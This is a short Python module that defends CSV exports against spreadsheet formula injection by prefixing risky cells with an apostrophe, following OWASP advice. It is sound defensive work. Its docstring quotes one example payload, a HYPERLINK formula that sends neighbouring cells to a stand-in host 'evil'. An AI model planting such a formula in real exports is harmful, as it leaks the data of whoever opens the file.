"""CSV cells a spreadsheet will not run: the defence against formula injection.

Spreadsheets read a cell that starts with = + - @ as a formula, and some also after a
leading tab or carriage return; `=HYPERLINK("http://evil/?"&A1, "click")` in an article
title would leak the neighbouring cells of whoever opens the export. OWASP's advice
(CSV Injection) is followed: such a cell gets a leading apostrophe, which spreadsheets
show as text and do not display. Quotes and separators are the csv module's job.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """A string that would start a formula, prefixed with '; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def row(values: Mapping[str, Any]) -> dict[str, Any]:
    return {k: cell(v) for k, v in values.items()}
